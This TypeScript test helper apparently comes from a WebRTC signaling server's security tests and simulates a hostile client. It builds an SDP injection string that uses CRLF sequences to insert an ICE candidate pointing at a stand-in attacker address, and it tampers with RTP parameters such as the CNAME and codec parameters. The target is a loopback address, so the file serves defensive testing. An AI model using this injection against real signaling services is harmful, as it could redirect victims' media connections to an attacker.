import type { RequestData, RequestName, ResponseData } from '../../src/signaling/protocol';
import type { MediaSignaling } from './mediaClient';
import type { SignalingClient } from './signalingClient';

export type RtpParameters = RequestData<'producer.create'>['rtpParameters'];

/**
 * Where the injected ICE candidates point: a loopback address no test uses,
 * so a victim's STUN to it never leaves the machine.
 */
export const ATTACKER_IP = '127.0.0.99';

/** In every string the attacker writes, so that a receiver's SDP can be searched for any of them. */
export const MARKER = 'zzattacker';

/**
 * Text that, written unescaped into an SDP line, ends that line, adds a host
 * candidate at ATTACKER_IP:`port`, and starts an unknown attribute that takes
 * whatever mediasoup-client writes after it on the same line.
 */
export function injectedCandidate(port: number): string {
	return `\r\na=candidate:${MARKER}${port} 1 udp 2130706431 ${ATTACKER_IP} ${port} typ host\r\na=x-${MARKER}:`;
}

/**
 * A hostile client's signaling for MediaClient: every request goes as
 * MediaClient makes it, except producer.create, whose RTP parameters (what
 * mediasoup-client produced) go through `tamper` first, as a modified client
 * would send them. The send transport stays real: the producer can carry media.
 */
export function tamperingSignaling(signaling: SignalingClient, tamper: (rtp: RtpParameters) => RtpParameters): MediaSignaling {
	return {
		request: <N extends RequestName>(name: N, data: RequestData<N>): Promise<ResponseData<N>> => {
			if (name !== 'producer.create') {
				return signaling.request(name, data);
			}
			const produce = data as RequestData<'producer.create'>;
			return signaling.request(name, { ...produce, rtpParameters: tamper(structuredClone(produce.rtpParameters)) } as RequestData<N>);
		},
		onConsumerNew: (handler) => signaling.onConsumerNew(handler),
		on: (event, handler) => signaling.on(event, handler),
	};
}

/** The rtpParameters with `cname` as its RTCP CNAME. */
export function withCname(rtp: RtpParameters, cname: string): RtpParameters {
	return { ...rtp, rtcp: { ...rtp.rtcp, cname } };
}

/** The rtpParameters with `extra` merged into the first codec's parameters. */
export function withCodecParameters(rtp: RtpParameters, extra: Record<string, unknown>): RtpParameters {
	const [first, ...rest] = rtp.codecs;
	return { ...rtp, codecs: [{ ...first!, parameters: { ...first!.parameters, ...extra } as never }, ...rest] };
}
